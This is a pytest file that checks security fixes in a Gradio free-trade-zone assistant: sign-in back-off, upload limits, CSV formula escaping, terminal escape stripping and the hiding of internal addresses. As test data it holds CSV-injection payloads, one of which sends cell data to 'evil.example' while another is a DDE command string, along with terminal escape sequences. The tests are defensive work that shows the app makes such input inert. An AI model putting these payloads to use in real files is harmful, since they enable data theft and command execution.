"""The findings of the hostile-visitor review, one test (or more) each: guessers cannot stall
staff (1), uploads do not fill the disk (2), the Statistics CSV runs no formula (3), errors
are one clear line and a damaged index says how to mend it (4), visitors see no staff data
and no internal address (5). Unit tests build the app over fakes; the integration tests run
a real app and the real CLI on loopback."""

from __future__ import annotations

import csv
import logging
import os
import re
import sqlite3
import subprocess
import sys
import time
import uuid
from collections.abc import Iterator
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import gradio as gr
import httpx
import pytest
from gradio.utils import get_upload_folder

from assistant.access import Backoff, StaffGate
from assistant.contract import Answer
from assistant.errors import StoreDamaged, StoreUnavailable, UserError
from assistant.store import ChromaStore
from assistant.terminal import PrintableFormatter, printable
from assistant.ui.app import build_app
from assistant.ui.facts_tab import write_csv
from assistant.ui.library_tab import client_of
from tests import launcher
from tests.conftest import ROOT
from tests.fakes import STAFF_NAME, FakeFinder, FakeLibrary, extractive_engine
from tests.hostile.probe import (
    ask,
    call_every_endpoint,
    completed,
    event,
    few_docs,
    sign_in_index,
    staff_cookie,
    upload,
    warnings_of,
)
from tests.serving import running_app

PASSWORD = "staff-only-secret"
CHROMA_ADDRESS = "http://10.9.8.7:8000"


class FailingEngine:
    def __init__(self, error: Exception) -> None:
        self.error = error

    def answer(self, question: str, history=()) -> Answer:
        raise self.error

    def stream(self, question: str, history=()) -> Iterator[Answer]:
        raise self.error


def _app(engine: Any = None, library: Any = None, gate: Any = None,
         finder: Any = None) -> gr.Blocks:
    return build_app(engine or FailingEngine(UserError("unused")), library or FakeLibrary(),
                     gate or StaffGate(PASSWORD), finder or FakeFinder(), 60)


def _handler(app: gr.Blocks, qualname: str) -> Any:
    """The app's event function of that qualified name ("build_facts_tab.<locals>.refresh")."""
    [found] = {id(f.fn): f.fn for f in app.fns.values()
               if getattr(f.fn, "__qualname__", "").endswith(qualname)}.values()
    return found


def _shown(markdown: str) -> str:
    """A chat message's text as shown (markdown's escapes undone)."""
    return re.sub(r"\\(.)", r"\1", markdown)


def _request(host: str | None, session: str = "") -> Any:
    return SimpleNamespace(client=SimpleNamespace(host=host) if host else None,
                           session_hash=session)


# --- 1. Visitors cannot stall staff --------------------------------------------------------

def test_1_a_guesser_is_refused_at_once_per_client_and_staff_are_unaffected() -> None:
    now = [1000.0]
    clock = lambda: now[0]  # noqa: E731
    gate = StaffGate(PASSWORD, backoff=Backoff(1.0, 300.0, clients=50, clock=clock),
                     clock=clock)
    sign_in = _handler(_app(gate=gate), "build_library_tab.<locals>.sign_in")
    guesser, staff = _request("10.0.0.66"), _request("10.0.0.7")
    started = time.monotonic()
    said = []
    for guess in ("guess-1", "guess-2", PASSWORD, "guess-4", "guess-5", "guess-6"):
        with pytest.warns(UserWarning) as shown:
            token, *_ = sign_in(guess, guesser)
        assert not isinstance(token, str)  # (no session: the state is left as it was)
        said.append(str(shown[0].message))
    assert time.monotonic() - started < 1.0  # no sleeping (it slept 0.5 + 1 + 2 + ... s)
    assert said[0].startswith("Wrong staff password")
    # in back-off the right password is refused too: it is not even looked at
    assert all(line.startswith("Too many wrong passwords: try again in 1 s") for line in said[1:])
    token, *_ = sign_in(PASSWORD, staff)  # another client is not slowed down at all
    assert isinstance(token, str) and gate.signed_in(token)
    now[0] += 1.5
    with pytest.warns(UserWarning, match="Wrong staff password"):
        sign_in("guess-7", guesser)  # back-off over: a guess is looked at again ...
    with pytest.warns(UserWarning, match=r"try again in 2 s"):
        sign_in(PASSWORD, guesser)  # ... and a wrong one doubles the wait
    now[0] += 2 + 300  # quiet for the longest back-off: the count starts again
    with pytest.warns(UserWarning, match="Wrong staff password"):
        sign_in("guess-8", guesser)
    with pytest.warns(UserWarning, match=r"try again in 1 s"):
        sign_in(PASSWORD, guesser)
    # no address: the page session is the client
    with pytest.warns(UserWarning, match="Wrong staff password"):
        sign_in("guess", _request(None, "session-a"))
    token, *_ = sign_in(PASSWORD, _request(None, "session-b"))
    assert gate.signed_in(token)
    assert client_of(_request(None, "session-a")) == "session-a"
    # the failure table stays bounded however many clients guess
    backoff = Backoff(1.0, 300.0, clients=50, clock=clock)
    bounded = StaffGate(PASSWORD, backoff=backoff, clock=clock)
    for n in range(500):
        with pytest.raises(UserError):
            bounded.check("wrong", f"10.1.{n // 256}.{n % 256}")
    assert len(backoff) == 50


@pytest.mark.integration
@pytest.mark.slow
def test_1_wrong_passwords_on_a_running_app_are_answered_without_waiting(served) -> None:
    with httpx.Client(base_url=served.url, timeout=60) as client:
        sign_in = sign_in_index(client)
        said, started = [], time.monotonic()
        for guess in ("wrong-1", "wrong-2", "wrong-3", "wrong-4", "wrong-5"):
            said += warnings_of(event(client, sign_in, [guess]))
        assert time.monotonic() - started < 4  # the old gate slept 0.5+1+2+4+8 s
    assert said[0].startswith("Wrong staff password")
    assert any(line.startswith("Too many wrong passwords") for line in said[1:])


# --- 2. Uploads do not fill the disk -------------------------------------------------------

def _uploaded(name: str) -> Path:
    """A file where Gradio keeps uploads, as its upload route leaves one."""
    folder = Path(get_upload_folder()) / f"ftz-test-{uuid.uuid4().hex}"
    folder.mkdir(parents=True)
    path = folder / name
    path.write_text("# Planted\n\nThe planted zone covers 1.23 km².\n")
    return path


def test_2_the_upload_handler_deletes_what_it_received_and_needs_a_session(
        tmp_path: Path, monkeypatch) -> None:
    monkeypatch.setenv("GRADIO_TEMP_DIR", str(tmp_path / "gradio"))
    library, gate = FakeLibrary(), StaffGate(PASSWORD)
    app = _app(library=library, gate=gate)
    assert app.delete_cache == (3600, 3600)  # (upload_cache_minutes=60)
    upload_handler = _handler(app, "build_library_tab.<locals>.upload")
    elsewhere = tmp_path / "not-an-upload.md"
    elsewhere.write_text("kept")
    anonymous = _uploaded("evil.md")
    with pytest.warns(UserWarning, match="Sign in as staff first"):
        refused = upload_handler("", "visitor", [str(anonymous), str(elsewhere)])
    assert refused[-1] is None  # (the box is emptied: its files are gone)
    assert library.uploaded == []  # not ingested ...
    assert not anonymous.exists() and not anonymous.parent.exists()  # ... and deleted
    assert elsewhere.read_text() == "kept"  # (only Gradio's own upload folder is touched)
    staff = _uploaded("good.md")
    outputs = upload_handler(gate.sign_in(PASSWORD), "Li", [str(staff)])
    assert [name for name, _ in library.uploaded[0]] == ["good.md"]  # the positive control
    assert "good.md" in outputs[0] and not staff.exists()


@pytest.mark.integration
@pytest.mark.slow
def test_2_a_running_app_takes_uploads_only_from_staff_limits_and_forgets_them(served) -> None:
    def stored() -> set[Path]:
        return {p for p in served.uploads.rglob("*") if p.is_file()}

    with httpx.Client(base_url=served.url, timeout=60) as client:
        prefix = client.get("/config").json()["api_prefix"]
        before = stored()
        for cookie in ({}, {"ftz_staff": "made-up-token"}):  # anonymous, or a forged session
            client.cookies.clear()
            client.cookies.update(cookie)
            refused = upload(client, prefix, "small.md", b"# Small\n\nA small file.\n")
            assert refused.status_code == 403 and "staff session" in refused.json()["error"]
        assert stored() == before  # nothing was written for them
        time.sleep(2.5)  # (past the back-off of the guesses of test 1)
        staff_cookie(client, PASSWORD)  # (the sign-in hands the page its session once)
        too_big = upload(client, prefix, "big.md", b"x" * 80_000)  # (the limit: 50 kB)
        assert too_big.status_code == 413
        [kept] = upload(client, prefix, "small.md", b"# Small\n\nA small file.\n").json()
        assert Path(kept).is_file() and Path(kept).is_relative_to(served.uploads)
        deadline = time.monotonic() + 30  # (kept for 3 s, checked every 3 s)
        while Path(kept).exists() and time.monotonic() < deadline:
            time.sleep(0.5)
        assert not Path(kept).exists()


# --- 3. The Statistics CSV runs no formula -------------------------------------------------

def test_3_a_formula_in_a_figure_comes_out_of_the_csv_inert() -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    fact = {"value": evil, "number": -3.5, "unit": "+cmd|' /C calc'!A0", "quantity": "@SUM(A1)",
            "place": "\t=1+1", "period": "\r-2+3", "period_key": "", "level": "zone",
            "citations": [{"source": "-evil.md", "title": evil, "snippet": evil,
                           "url": "=evil()"}]}
    plain = {"value": "-3.5", "number": -3.5, "unit": "km²", "quantity": "area",
             "place": "Reed FTZ", "period": "", "citations": [{"source": "reed.md"}]}
    with open(write_csv([fact, plain]), encoding="utf-8-sig", newline="") as handle:
        header, hostile, control = list(csv.reader(handle))
    assert hostile[header.index("Value")] == "'" + evil  # kept as written, but as text
    number = header.index("Number")
    assert hostile[number] == "-3.5"  # a number stays a number
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
               for n, cell in enumerate(hostile) if n != number)
    assert control[header.index("Value")] == "-3.5" and control[header.index("Place")] == \
        "Reed FTZ"


# --- 4. Errors are one clear line ----------------------------------------------------------

def test_4_a_question_that_is_not_text_is_one_clear_line_without_traceback(
        store, lexical, fake_embeddings, caplog) -> None:
    engine = extractive_engine(store, lexical, fake_embeddings)
    ask_handler = _handler(_app(engine=engine), "build_app.<locals>.ask")
    caplog.set_level(logging.WARNING)
    for hostile in (123, None, ["a", "list"], {"q": 1}, "bad \udcff bytes", "x" * 5000):
        with pytest.raises(gr.Error) as refused:
            ask_handler(hostile)
        assert refused.value.message and "\n" not in refused.value.message
        assert refused.value.print_exception is False
    assert "must be text" in str(caplog.records[0].getMessage())
    assert all(record.exc_info is None for record in caplog.records)  # one line each
    assert len(caplog.records) == 6
    with pytest.raises(gr.Error):  # a real bug keeps its traceback in the log
        _handler(_app(engine=FailingEngine(KeyError("bug"))), "build_app.<locals>.ask")("q")
    assert caplog.records[-1].exc_info is not None


def test_4_text_for_a_terminal_keeps_no_escape_and_no_control() -> None:
    hostile = ("Tern\x1b]0;pwned\x07 \x1b[31mArea\x1b[0m \x1b]8;;http://x\x1b\\link\x1b]8;;"
               "\x1b\\ \x9b2J12.5\r\x08\x00\x9d km²\tok\nnext \udcff")
    shown = printable(hostile)
    assert shown == "Tern Area link 12.5 km²\tok\nnext ?"
    record = logging.LogRecord("x", logging.WARNING, "", 0, "skipped %s", ("\x1b[2Jevil.md",),
                               None)
    assert PrintableFormatter("%(message)s").format(record) == "skipped evil.md"


def _damaged_index(index: Path, fake_embeddings) -> None:
    """An embedded index whose database file is no database any more."""
    store = ChromaStore(fake_embeddings, index_dir=index)
    store.upsert_chunks(["a"], ["text"], [fake_embeddings.embed_query("text")],
                        [{"source": "a.md"}])
    database = index / "chroma" / "chroma.sqlite3"
    with sqlite3.connect(database) as check:  # (a real database before)
        check.execute("select 1")
    with database.open("r+b") as handle:
        handle.write(b"this is no longer a database" * 8)


@pytest.mark.integration  # (a fresh interpreter opens the damaged index)
def test_4_a_damaged_index_is_told_apart_and_the_rebuild_command_given(
        tmp_path: Path, fake_embeddings) -> None:
    _damaged_index(tmp_path / "index", fake_embeddings)
    code = ("import sys\nfrom assistant.store import ChromaStore\nfrom assistant.errors import "
            "StoreDamaged\nfrom tests.fakes import BagOfWordsEmbeddings\n"
            "try:\n    ChromaStore(BagOfWordsEmbeddings(), index_dir=__import__('pathlib')"
            f".Path({str(tmp_path / 'index')!r})).count()\n"
            "except StoreDamaged as e:\n    print('DAMAGED', e)\n")
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                          timeout=120, cwd=ROOT)
    assert done.stdout.startswith("DAMAGED") and "ingest --rebuild" in done.stdout
    # an unreachable server is not "damaged" (the positive control of the difference)
    with pytest.raises(StoreUnavailable) as unreachable:
        ChromaStore(fake_embeddings, url="http://127.0.0.1:9").count()
    assert not isinstance(unreachable.value, StoreDamaged)
    # the app says so in the chat and on the Statistics tab, not "try again in a moment"
    damaged = StoreDamaged(f"the Chroma index at {tmp_path} is damaged: rebuild it")
    app = _app(engine=FailingEngine(damaged), finder=FakeFinder(error=damaged))
    *_, (_, chat, *_) = list(_handler(app, "build_app.<locals>.respond")("Q?", [], [], []))
    assert "ingest --rebuild" in _shown(chat[-1]["content"]) and str(tmp_path) not in str(chat)
    shown = _handler(app, "build_facts_tab.<locals>.refresh")("", "", "", "", "")
    assert any("ingest --rebuild" in str(output) for output in shown)


@pytest.mark.integration
@pytest.mark.slow
def test_4_the_cli_prints_no_escapes_no_traceback_and_refuses_pipes(tmp_path: Path) -> None:
    docs = few_docs(tmp_path / "docs")
    (docs / "escapes.html").write_text(  # (entities: the loaders refuse raw controls)
        "<html><head><title>Tern &#x1b;]0;pwned&#7;Area&#x1b;[2J</title></head><body>"
        "<h1>Tern Area</h1><p>The Tern &#x1b;[31mArea&#x1b;[0m covers 12.5 square kilometres"
        "&#x9b;2J of land in the Reed FTZ, which opened in 2019 and serves shipping.</p>"
        "</body></html>")
    index = tmp_path / "index"

    def cli(*args: str, question: bytes | None = None) -> subprocess.CompletedProcess:
        argv: list[str | bytes] = ["--index-dir", str(index), *args]
        if question is not None:
            argv.append(question)
        done = launcher.run(argv, text=False, env={**os.environ, "HF_HUB_OFFLINE": "1",
                                                   "FTZ_DOCS_DIR": str(docs)})
        assert b"Traceback" not in done.stderr, done.stderr.decode(errors="replace")
        return done

    assert cli("ingest").returncode == 0
    answered = cli("ask", "How large is the Tern Area?")
    assert b"12.5" in answered.stdout  # (the document's text is printed ...)
    listed = cli("list")
    for out in (answered.stdout, listed.stdout, cli("facts").stdout):
        assert b"\x1b" not in out and b"\xc2\x9b" not in out and b"\x07" not in out
    assert b"Tern Area" in listed.stdout  # (... without its escapes)
    bad = cli("ask", question=b"How large is \xff\xfe the Tern Area?")
    assert bad.returncode == 2 and bad.stderr.count(b"\n") == 1 and b"UTF-8" in bad.stderr
    pipe = tmp_path / "pipe.md"
    os.mkfifo(pipe)
    refused = cli("ingest", str(pipe))  # (it hung, reading the pipe)
    assert refused.returncode == 2 and b"not a regular file" in refused.stderr
    # a damaged index: one line naming the command that mends it, which does
    with (index / "chroma" / "chroma.sqlite3").open("r+b") as handle:
        handle.write(b"this is no longer a database" * 8)
    damaged = cli("list")
    assert damaged.returncode == 2 and b"ftz-assistant ingest --rebuild" in damaged.stderr
    assert damaged.stderr.strip().count(b"\n") == 0
    assert cli("ingest", "--rebuild").returncode == 0
    assert b"escapes.html" in cli("list").stdout


# --- 5. Visitors see no staff data and no internal address ---------------------------------

def test_5_an_unreachable_server_is_a_plain_line_for_visitors_and_logged_in_full(
        caplog) -> None:
    down = StoreUnavailable(f"the Chroma server at {CHROMA_ADDRESS} is not reachable: refused")
    app = _app(engine=FailingEngine(down), library=FakeLibrary(down))
    caplog.set_level(logging.WARNING)
    *_, (_, chat, *_) = list(_handler(app, "build_app.<locals>.respond")("Q?", [], [], []))
    assert "unreachable" in chat[-1]["content"] and "try again later" in chat[-1]["content"]
    assert "10.9.8.7" not in str(chat)
    with pytest.raises(gr.Error) as refused:
        _handler(app, "build_app.<locals>.ask")("Q?")
    assert "10.9.8.7" not in refused.value.message
    listing, _ = _handler(app, "build_library_tab.<locals>.show")()
    assert "unreachable" in listing and "10.9.8.7" not in listing
    assert any(CHROMA_ADDRESS in record.getMessage() for record in caplog.records)


@pytest.mark.integration
@pytest.mark.slow
def test_5_no_endpoint_shows_the_change_log_to_a_visitor(served) -> None:
    with httpx.Client(base_url=served.url, timeout=120) as client:
        client.get("/")
        for password in ("wrong", "", None):
            said = call_every_endpoint(client, lambda kind, uploaded, p=password: {
                "textbox": p, "file": [uploaded], "api": "How large is the Dalian area?"}.get(
                kind))
            assert len(completed(said)) >= 30
            assert STAFF_NAME not in str(said) and "cli:" not in str(said)
        assert STAFF_NAME not in client.get("/config").text
    # the positive control: signed in, staff do see it (after the back-off of the guesses)
    time.sleep(3)
    with httpx.Client(base_url=served.url, timeout=120) as client:
        [signed] = completed(event(client, sign_in_index(client), [PASSWORD]))
        assert STAFF_NAME in str(signed["output"])


@pytest.mark.integration
@pytest.mark.slow
def test_5_no_monitoring_route_tells_a_visitor_what_the_app_did(served) -> None:
    # class: Gradio's monitoring summary (every function by name, the staff ones among them,
    # with its number of calls and timings) answered anyone who asked
    with httpx.Client(base_url=served.url, timeout=120) as client:
        assert ask(client, "How large is the Dalian area?")["success"]  # (one call to tell)
        for path in ("/monitoring", "/monitoring/summary"):
            reply = client.get(path)
            assert reply.status_code == 403 and "ask" not in reply.text, (path, reply.text)


def test_5_the_app_tells_gradio_s_site_nothing(monkeypatch) -> None:
    # class: Gradio asked its site for its newest version whenever the app was built and
    # reported every launch there, unless told not to (the app promises no telemetry)
    import threading

    import gradio.analytics

    asked = threading.Semaphore(0)  # (Gradio asks from a thread of its own)
    monkeypatch.setenv("GRADIO_ANALYTICS_ENABLED", "True")
    monkeypatch.setattr(gradio.analytics, "version_check", asked.release)
    app = _app()
    assert app.analytics_enabled is False  # (which also keeps launches unreported)
    assert not asked.acquire(timeout=1)
    gr.Blocks()  # the positive control: a Blocks left to the environment does ask
    assert asked.acquire(timeout=10)


# --- the running app of the integration tests ----------------------------------------------

@pytest.fixture(scope="module")
def served(tmp_path_factory) -> Iterator[SimpleNamespace]:
    """A real app over a few documents with staff changes logged, small uploads (50 kB)
    kept 3 s, and a short back-off."""
    base = tmp_path_factory.mktemp("visitors")
    docs, index, uploads = few_docs(base / "docs"), base / "index", base / "gradio"
    index.mkdir()
    (index / "changes.jsonl").write_text(
        f'{{"when": "2025-01-01T00:00:00+00:00", "who": "{STAFF_NAME}", "action": "upload", '
        '"source": "dalian-ftz-5th-anniversary-2022.md", "status": "added", "chunks": 3, '
        '"detail": ""}\n{"when": "2025-01-01T00:00:00+00:00", "who": "cli:operator", '
        '"action": "ingest", "source": "fujian-ftz-overview-ipim-macao.md", "status": '
        '"added", "chunks": 3, "detail": ""}\n')
    env = {"FTZ_MAX_UPLOAD_MB": "0.05", "FTZ_UPLOAD_CACHE_MINUTES": "0.05",
           "FTZ_SIGN_IN_BACKOFF_SECONDS": "0.5", "FTZ_SIGN_IN_BACKOFF_MAX_SECONDS": "2",
           "GRADIO_TEMP_DIR": str(uploads)}
    with running_app(docs, index, password=PASSWORD, env=env) as url:
        yield SimpleNamespace(url=url, uploads=uploads.resolve())
